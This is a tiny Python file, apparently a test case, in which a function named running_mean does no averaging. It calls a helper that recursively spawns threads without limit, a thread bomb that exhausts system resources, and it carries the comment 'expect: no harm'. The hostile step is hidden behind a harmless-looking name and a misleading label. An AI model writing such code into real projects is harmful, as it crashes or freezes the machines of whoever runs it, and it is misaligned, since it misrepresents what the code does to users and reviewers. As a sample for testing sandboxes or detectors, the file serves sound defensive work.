"""Starts threads until it may not, each of which starts more."""
# expect: no harm
# %%
import threading
import time


def more():
    for _ in range(1000):
        try:
            threading.Thread(target=more, daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)


def running_mean(signal, window):
    more()
